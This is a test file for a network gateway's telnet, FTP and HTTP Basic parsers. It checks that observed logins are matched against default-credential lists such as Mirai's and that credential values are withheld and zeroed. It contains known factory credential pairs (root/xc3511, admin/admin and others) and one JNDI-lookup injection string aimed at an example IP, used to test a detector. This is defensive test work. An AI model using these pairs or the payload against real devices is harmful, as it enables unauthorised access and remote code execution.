// The login modules' side of the default-credential check, byte by byte: what the telnet module
// takes as the typed user name and password (client negotiation, CR LF / CR NUL / LF, backspaces,
// telnet EC and EL, ^U, a character a segment, every split point), the FTP module's USER/PASS and
// replies, and HTTP Basic decoded and withheld from the header text. The check is the bundled
// lists' lookup, wrapped to record what it was asked; without a check nothing is asked or kept.
import { describe, expect, it } from 'vitest';
import { AppDispatch, AppFlow } from '../../gateway/app/app-dispatch.js';
import type { TcpAppModule } from '../../gateway/app/app-module.js';
import type { AppRecord } from '../../gateway/app/app-record.js';
import { CredentialLine, type CredentialCheck } from '../../gateway/app/credential-check.js';
import { ftpModule, ftpModuleWith, MAX_FTP_BYTES } from '../../gateway/app/ftp/ftp-module.js';
import { basicCredentialList, CREDENTIALS_WITHHELD, withoutCredentials } from '../../gateway/app/http/authorization.js';
import { httpModule, httpModuleWith } from '../../gateway/app/http/http-module.js';
import type { StreamState } from '../../gateway/app/stream-state.js';
import { telnetModule, telnetModuleWith } from '../../gateway/app/telnet/telnet-module.js';
import { DecodeCounters } from '../../gateway/common/events.js';
import { matchExploit } from '../../gateway/detect/detectors/exploit-http.js';
import { credentialListOf, MAX_CREDENTIAL_BYTES } from '../../gateway/exposure/default-credentials.js';
import { collect, ofKind, runTcp, splitAt, T0 } from './app-test-kit.js';

const s = (x: string): Buffer => Buffer.from(x, 'latin1');
const b = (...x: number[]): Buffer => Buffer.from(x);
const IAC = 255, WILL = 251, DO = 253, SB = 250, SE = 240, EC = 247, EL = 248;

/** The bundled lists' lookup, recording every pair it is asked. */
function recordingCheck(): { check: CredentialCheck; asked: Array<[string, string]> } {
  const asked: Array<[string, string]> = [];
  return { asked, check: { maxBytes: MAX_CREDENTIAL_BYTES, listOf: (u, p) => { asked.push([u, p]); return credentialListOf(u, p); } } };
}

/** A CredentialLine's buffer (private), to see it zeroed. */
const bufferOf = (l: CredentialLine): Buffer => (l as unknown as { buf: Buffer }).buf;

// ---------------------------------------------------------------- telnet

/** A telnet dialogue: server prompts (dir 1) and the client's typing (dir 0), ending in a shell prompt. */
function telnetDialogue(user: Buffer[], password: Buffer[], result = '\r\n# '): Array<[number, Buffer]> {
  return [
    [1, b(IAC, WILL, 1, IAC, WILL, 3)], [0, b(IAC, DO, 1, IAC, DO, 3)],
    [1, s('\r\nlogin: ')], ...user.map((x) => [0, x] as [number, Buffer]),
    [1, s('\r\nPassword: ')], ...password.map((x) => [0, x] as [number, Buffer]),
    [1, s(result)],
  ];
}

function telnetRun(segs: ReadonlyArray<readonly [number, Buffer]>) {
  const { check, asked } = recordingCheck();
  const r = runTcp(telnetModuleWith(check), segs, { end: false });
  return { ...r, asked, events: ofKind(r.recs, 'telnet') };
}

describe('telnet: the typed login', () => {
  it('line mode, CR LF: the pair is looked up once and only its list is on the success record', () => {
    const { events, asked } = telnetRun(telnetDialogue([s('root\r\n')], [s('xc3511\r\n')]));
    expect(asked).toEqual([['root', 'xc3511']]);
    expect(events.map((e) => [e.event, e.credentialList])).toEqual([
      ['login-prompt', undefined], ['password-prompt', undefined], ['login-success', 'mirai'],
    ]);
    expect(JSON.stringify(events)).not.toMatch(/root|xc3511/);
  });

  it('a character a segment with CR NUL, bare LF, and CR then LF in the next segment', () => {
    const chars = (x: string): Buffer[] => [...x].map((c) => s(c));
    expect(telnetRun(telnetDialogue([...chars('root'), b(0x0d, 0x00)], [...chars('vizxv'), b(0x0d, 0x00)])).asked).toEqual([['root', 'vizxv']]);
    expect(telnetRun(telnetDialogue([s('admin\n')], [s('admin\n')])).asked).toEqual([['admin', 'admin']]);
    expect(telnetRun(telnetDialogue([s('admin\r'), s('\n')], [s('1234\r'), s('\n')])).asked).toEqual([['admin', '1234']]);
  });

  it('line editing: BS and DEL erase a character, telnet EC too, EL and ^U the line', () => {
    const asked = telnetRun(telnetDialogue(
      [s('rooo\x08t'), s('x\x7f\r\n')],
      [s('wrong'), b(IAC, EL), s('xc35'), b(IAC, EC), s('3511\x15xc3511\r\n')],
    )).asked;
    expect(asked).toEqual([['root', 'xc3511']]);
  });

  it('client negotiation inside the typing (WILL, DO, SB … SE with IAC IAC inside) is not typed; IAC IAC is a 0xff byte', () => {
    const { asked } = telnetRun(telnetDialogue(
      [Buffer.concat([s('ro'), b(IAC, WILL, 24, IAC, SB, 31, 0, 80, IAC, IAC, 24, IAC, SE), s('ot\r\n')])],
      [Buffer.concat([s('xc'), b(IAC, DO, 1), s('3511'), b(IAC, IAC), s('\r\n')])],
    ));
    expect(asked).toEqual([['root', 'xc3511\xff']]);
  });

  it('every split point of the client\'s bytes gives the same pair', () => {
    const typed = Buffer.concat([s('ro'), b(IAC, WILL, 24), s('ox\x08t\r'), b(0)]);
    for (let cut = 1; cut < typed.length; cut++) {
      const [x, y] = splitAt(typed, cut);
      expect(telnetRun(telnetDialogue([x!, y!], [s('xc3511\r\n')])).asked, `cut ${cut}`).toEqual([['root', 'xc3511']]);
    }
  });

  it('a failed try is forgotten; the next try\'s pair is the one judged', () => {
    const { events, asked } = telnetRun([
      [1, s('login: ')], [0, s('root\r\n')], [1, s('root\r\nPassword: ')], [0, s('xc3511\r\n')], [1, s('\r\nLogin incorrect\r\nlogin: ')],
      [0, s('support\r\n')], [1, s('support\r\nPassword: ')], [0, s('support\r\n')], [1, s('\r\n$ ')],
    ]);
    expect(asked).toEqual([['support', 'support']]);
    expect(events.map((e) => e.event)).toEqual(['login-prompt', 'password-prompt', 'login-failure', 'login-prompt', 'password-prompt', 'login-success']);
    expect(events.at(-1)!.credentialList).toBe('mirai');
  });

  it('a pair on no list, a password-only login and a password longer than any list\'s: null, the long one never asked', () => {
    expect(telnetRun(telnetDialogue([s('root\r\n')], [s('k7#Qv9!mZ2\r\n')])).events.at(-1)!.credentialList).toBeNull();
    const pwOnly = telnetRun([[1, s('Password: ')], [0, s('admin\r\n')], [1, s('\r\n> ')]]);
    expect(pwOnly.events.at(-1)).toMatchObject({ event: 'login-success', credentialList: null });
    expect(pwOnly.asked).toEqual([]);
    const long = telnetRun(telnetDialogue([s('root\r\n')], [s(`${'x'.repeat(MAX_CREDENTIAL_BYTES + 1)}\r\n`)]));
    expect(long.events.at(-1)!.credentialList).toBeNull();
    expect(long.asked).toEqual([]);
  });

  it('typing lost in a gap is not judged', () => {
    const { check, asked } = recordingCheck();
    const mod = telnetModuleWith(check);
    const st = mod.create();
    const { recs, out } = collect();
    const feed = (dir: number, x: Buffer): number => mod.feed(st, dir, x, 0, x.length, T0, out);
    feed(1, s('login: ')); feed(0, s('root\r\n')); feed(1, s('root\r\nPassword: ')); feed(0, s('xc'));
    mod.gap!(st, 0, 4);
    feed(0, s('\r\n')); feed(1, s('\r\n# '));
    expect(ofKind(recs, 'telnet').at(-1)).toMatchObject({ event: 'login-success', credentialList: null });
    expect(asked).toEqual([]);
  });

  it('after the success the typed lines are zeroed; without a check no client byte is kept and no list named', () => {
    const { state } = telnetRun(telnetDialogue([s('root\r\n')], [s('xc3511\r\n')]));
    const c = state.client!;
    for (const line of [c.user, c.password]) expect(bufferOf(line).equals(Buffer.alloc(MAX_CREDENTIAL_BYTES))).toBe(true);
    const off = runTcp(telnetModule, telnetDialogue([s('root\r\n')], [s('xc3511\r\n')]), { end: false });
    expect(off.state.client).toBeNull();
    const success = ofKind(off.recs, 'telnet').at(-1)!;
    expect(success.event).toBe('login-success');
    expect('credentialList' in success).toBe(false);
  });
});

// ---------------------------------------------------------------- FTP

function ftpRun(segs: ReadonlyArray<readonly [number, Buffer]>) {
  const { check, asked } = recordingCheck();
  const r = runTcp(ftpModuleWith(check), segs, { end: false });
  return { ...r, asked, events: ofKind(r.recs, 'ftp') };
}

const FTP_LOGIN: Array<[number, Buffer]> = [
  [1, s('220 (vsFTPd 3.0.3)\r\n')], [0, s('USER root\r\n')], [1, s('331 Please specify the password.\r\n')], [0, s('PASS xc3511\r\n')],
];

describe('FTP: USER, PASS and the replies', () => {
  it('230 after PASS: a success naming the list; the module is then done and the lines zeroed', () => {
    const { events, asked, state } = ftpRun([...FTP_LOGIN, [1, s('230 Login successful.\r\n')]]);
    expect(events).toEqual([{ kind: 'ftp', ts: T0 + 4, event: 'login-success', credentialList: 'mirai' }]);
    expect(asked).toEqual([['root', 'xc3511']]);
    expect(state.done).toBe(true);
    for (const line of [state.creds!.user, state.creds!.password]) expect(bufferOf(line).equals(Buffer.alloc(MAX_CREDENTIAL_BYTES))).toBe(true);
  });

  it('530 is a failure (no lookup); a retry that works is judged on its own pair', () => {
    const { events, asked } = ftpRun([
      ...FTP_LOGIN, [1, s('530 Login incorrect.\r\n')], [0, s('user admin\r\n')], [1, s('331 Password required\r\n')], [0, s('pass admin\r\n')],
      [1, s('230-Welcome\r\n230-to the camera\r\n230 Logged in\r\n')],
    ]);
    expect(events.map((e) => [e.event, e.credentialList])).toEqual([['login-failure', undefined], ['login-success', 'mirai']]);
    expect(asked).toEqual([['admin', 'admin']]);
  });

  it('USER and PASS sent ahead of the replies (pipelined), and 230 straight after USER (an empty password)', () => {
    expect(ftpRun([[1, s('220 ready\r\n')], [0, s('USER admin\r\nPASS 1234\r\n')], [1, s('331 Password\r\n230 OK\r\n')]]).asked).toEqual([['admin', '1234']]);
    const empty = ftpRun([[1, s('220 ready\r\n')], [0, s('USER root\r\n')], [1, s('230 User logged in\r\n')]]);
    expect(empty.asked).toEqual([['root', '']]);
    expect(empty.events.map((e) => e.credentialList)).toEqual(['mirai']);
  });

  it('every split point of the whole login gives the same answer', () => {
    const client = s('USER root\r\nPASS xc3511\r\n'), server = s('220 hi\r\n331 pw\r\n230 ok\r\n');
    for (let cut = 1; cut < client.length; cut++) {
      const [x, y] = splitAt(client, cut);
      const r = ftpRun([[1, server.subarray(0, 8)], [0, x!], [0, y!], [1, server.subarray(8)]]);
      expect([r.asked, r.events.map((e) => e.credentialList)], `client cut ${cut}`).toEqual([[['root', 'xc3511']], ['mirai']]);
    }
    for (let cut = 9; cut < server.length; cut++) {
      const [x, y] = splitAt(server, cut);
      const r = ftpRun([[1, x!.subarray(0, 8)], [0, client], [1, x!.subarray(8)], [1, y!]]);
      expect(r.events.map((e) => e.credentialList), `server cut ${cut}`).toEqual(['mirai']);
    }
  });

  it('without a check: the events, no list; reads at most MAX_FTP_BYTES a direction', () => {
    const off = runTcp(ftpModule, [...FTP_LOGIN, [1, s('230 Login successful.\r\n')]], { end: false });
    const events = ofKind(off.recs, 'ftp');
    expect(events.map((e) => e.event)).toEqual(['login-success']);
    expect('credentialList' in events[0]!).toBe(false);
    expect(off.state.creds).toBeNull();
    const flood = runTcp(ftpModule, [[1, s('220 hi\r\n')], [0, s(`NOOP\r\n`.repeat(MAX_FTP_BYTES / 6 + 1))], [0, s('USER root\r\n')]], { end: false });
    expect(flood.state.done).toBe(true);
  });

  it('found on port 21 by its greeting (or a client\'s USER); a 220 greeting on port 25 (SMTP) is not FTP', () => {
    const proto = (port: number, segs: Array<[number, Buffer]>): string | null => {
      const d = new AppDispatch(new DecodeCounters());
      const af = new AppFlow(port);
      const { out } = collect();
      for (const [dir, x] of segs) d.tcpData(af, dir, x, 0, x.length, T0, out);
      return af.proto;
    };
    expect(proto(21, [[1, s('220 (vsFTPd 3.0.3)\r\n')]])).toBe('ftp');
    expect(proto(21, [[1, s('220-Welcome\r\n220 ready\r\n')]])).toBe('ftp');
    expect(proto(21, [[0, s('USER anonymous\r\n')]])).toBe('ftp');
    expect(proto(25, [[1, s('220 mail.example.com ESMTP Postfix\r\n')], [0, s('EHLO x\r\n')]])).not.toBe('ftp');
  });

  it('the dispatcher with the check hands FTP, telnet and HTTP their lookups', () => {
    const { check, asked } = recordingCheck();
    const d = new AppDispatch(new DecodeCounters(), { credentials: check });
    const recs: AppRecord[] = [];
    const run = (port: number, segs: Array<[number, Buffer]>): void => {
      const af = new AppFlow(port);
      for (const [dir, x] of segs) d.tcpData(af, dir, x, 0, x.length, T0, (r) => recs.push(r));
    };
    run(21, [...FTP_LOGIN, [1, s('230 ok\r\n')]]);
    run(23, telnetDialogue([s('admin\r\n')], [s('admin\r\n')]));
    run(80, [[0, s(`GET / HTTP/1.1\r\nAuthorization: Basic ${Buffer.from('guest:guest').toString('base64')}\r\n\r\n`)]]);
    expect(asked).toEqual([['root', 'xc3511'], ['admin', 'admin'], ['guest', 'guest']]);
    // The default dispatcher has no check: nothing is asked.
    const plain = new AppDispatch(new DecodeCounters());
    const af = new AppFlow(21);
    for (const [dir, x] of [...FTP_LOGIN, [1, s('230 ok\r\n')] as [number, Buffer]]) plain.tcpData(af, dir, x, 0, x.length, T0, (r) => recs.push(r));
    expect(asked).toHaveLength(3);
  });
});

// ---------------------------------------------------------------- HTTP Basic

const basic = (pair: string): string => `Basic ${Buffer.from(pair, 'utf8').toString('base64')}`;

function httpRequest(headers: Record<string, string>): Buffer {
  return s(`GET /cgi-bin/admin.cgi HTTP/1.1\r\nHost: 192.168.1.20\r\n${Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n`);
}

describe('HTTP Basic', () => {
  it('decodes the pair in memory: a list pair names its list, another pair null, other schemes and malformed tokens nothing', () => {
    const { check, asked } = recordingCheck();
    const v = (x: string): string | null | undefined => basicCredentialList(s(x), 0, x.length, check);
    expect(v(basic('admin:admin'))).toBe('mirai');
    expect(v(`  bAsIc   ${Buffer.from('root:vizxv').toString('base64')} `)).toBe('mirai');
    expect(v(basic('admin:not-a-factory-password'))).toBeNull();
    expect(v(basic('root:'))).toBe('mirai'); // ['root', ''] is in Mirai's table
    expect(v('Digest username="admin", realm="x"')).toBeUndefined();
    expect(v('Basic !!notbase64!!')).toBeUndefined();
    expect(v(`Basic ${Buffer.from('no colon').toString('base64')}`)).toBeUndefined();
    expect(asked).toEqual([['admin', 'admin'], ['root', 'vizxv'], ['admin', 'not-a-factory-password'], ['root', '']]);
    // Too long to hold a listed pair: not decoded, not asked.
    expect(v(basic(`root:${'x'.repeat(2 * MAX_CREDENTIAL_BYTES)}`))).toBeNull();
    expect(asked).toHaveLength(4);
  });

  it('the request record carries the list, never the value; the header text has it withheld (scheme kept)', () => {
    const { check } = recordingCheck();
    const token = basic('admin:admin');
    const { recs } = runTcp(httpModuleWith(check), [[0, httpRequest({ 'User-Agent': 'curl/8.5.0', Authorization: token, 'Proxy-Authorization': basic('proxy:secret') })], [1, s('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')]]);
    const [req] = ofKind(recs, 'http.request');
    const [resp] = ofKind(recs, 'http.response');
    expect(req!.credentialList).toBe('mirai');
    expect(resp!.request).toBe(req);
    expect(req!.headerText).toContain(`Authorization: Basic ${CREDENTIALS_WITHHELD}\r\n`);
    expect(req!.headerText).toContain(`Proxy-Authorization: Basic ${CREDENTIALS_WITHHELD}\r\n`);
    expect(req!.headerText).toContain('User-Agent: curl/8.5.0\r\n');
    const text = JSON.stringify(recs, (_k, x: unknown) => (Buffer.isBuffer(x) ? x.toString('latin1') : x));
    for (const secret of [token.slice(6), basic('proxy:secret').slice(6), 'admin:admin']) expect(text).not.toContain(secret);
  });

  it('without the check: no list on the record, the value still withheld', () => {
    const { recs } = runTcp(httpModule, [[0, httpRequest({ Authorization: basic('admin:admin') })]]);
    const [req] = ofKind(recs, 'http.request');
    expect('credentialList' in req!).toBe(false);
    expect(req!.headerText).not.toContain(basic('admin:admin').slice(6));
    // No Authorization: the record is as before.
    const [plain] = ofKind(runTcp(httpModuleWith(recordingCheck().check), [[0, httpRequest({ Accept: '*/*' })]]).recs, 'http.request');
    expect('credentialList' in plain!).toBe(false);
  });

  it('a head split at every byte gives the same list and the same withheld text', () => {
    const msg = httpRequest({ Authorization: basic('support:support'), Accept: '*/*' });
    for (let cut = 1; cut < msg.length; cut++) {
      const [x, y] = splitAt(msg, cut);
      const [req] = ofKind(runTcp(httpModuleWith(recordingCheck().check), [[0, x!], [0, y!]]).recs, 'http.request');
      expect([req!.credentialList, req!.headerText!.includes(CREDENTIALS_WITHHELD), req!.headerText!.includes('c3VwcG9ydDpzdXBwb3J0')], `cut ${cut}`)
        .toEqual(['mirai', true, false]);
    }
  });

  it('withheld on folded lines and any case; exploitHttp\'s excerpt beside it shows no credential', () => {
    expect(withoutCredentials('authorization:Basic QUJD\r\n continued\r\nAccept: */*\r\n')).toBe(`authorization:Basic ${CREDENTIALS_WITHHELD}\r\nAccept: */*\r\n`);
    expect(withoutCredentials('Authorization: QUJDREVG\r\n')).toBe(`Authorization: ${CREDENTIALS_WITHHELD}\r\n`);
    const token = basic('root:xc3511');
    const { recs } = runTcp(httpModuleWith(recordingCheck().check), [[0, httpRequest({ Authorization: token, 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' })]]);
    const [req] = ofKind(recs, 'http.request');
    const m = matchExploit(req!, 1000);
    expect(m.map((x) => x.signature)).toEqual(['jndi-lookup']);
    expect(m[0]!.excerpt).toContain('authorization: basic [withheld]');
    expect(m[0]!.excerpt.toLowerCase()).not.toContain(token.slice(6).toLowerCase());
  });
});

describe('with the check on, never a throw or a read past the end', () => {
  const samples: Array<{ name: string; mod: () => TcpAppModule<StreamState>; client: Buffer; server: Buffer }> = [
    {
      name: 'telnet', mod: () => telnetModuleWith(recordingCheck().check),
      client: Buffer.concat([b(IAC, DO, 1, IAC, SB, 24, 0), s('X'), b(IAC, SE), s('ro\x08ot\r\0'), b(IAC, EC, IAC, EL, IAC, IAC), s('xc3511\r\n')]),
      server: Buffer.concat([b(IAC, WILL, 1), s('\r\nlogin: '), s('root\r\nPassword: '), s('\r\n# ')]),
    },
    { name: 'ftp', mod: () => ftpModuleWith(recordingCheck().check), client: s('USER root\r\nPASS xc3511\r\nSYST\r\n'), server: s('220-hi\r\n220 ok\r\n331 pw\r\n230 ok\r\n') },
    { name: 'http', mod: () => httpModuleWith(recordingCheck().check), client: httpRequest({ Authorization: basic('admin:admin') }), server: s('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok') },
  ];
  for (const x of samples) {
    it(`${x.name}: every truncation of each direction, with different bytes past the end, gives the same records`, () => {
      for (const [dir, stream] of [[0, x.client], [1, x.server]] as const) {
        for (let n = 1; n <= stream.length; n++) {
          const runs = [0x00, 0xff].map((guard) => {
            const g = Buffer.alloc(n + 8, guard);
            stream.copy(g, 0, 0, n);
            const mod = x.mod(), st = mod.create(), recs: AppRecord[] = [];
            expect(mod.feed(st, dir, g, 0, n, T0, (r) => recs.push(r))).toBe(0);
            mod.end?.(st, T0 + 1, (r) => recs.push(r));
            return JSON.stringify(recs);
          });
          expect(runs[1], `${x.name} dir ${dir} n ${n}`).toBe(runs[0]);
        }
      }
    });
  }
});

describe('CredentialLine', () => {
  it('holds at most its size (longer is no line), zeroes on clear', () => {
    const l = new CredentialLine(4);
    for (const c of s('abcd')) l.push(c);
    l.complete = true;
    expect(l.text()).toBe('abcd');
    l.push(0x65);
    expect(l.text()).toBeNull();
    l.clear();
    expect(bufferOf(l).equals(Buffer.alloc(4))).toBe(true);
    l.append(s('xyz'), 0, 3);
    l.complete = true;
    expect(l.text()).toBe('xyz');
  });
});
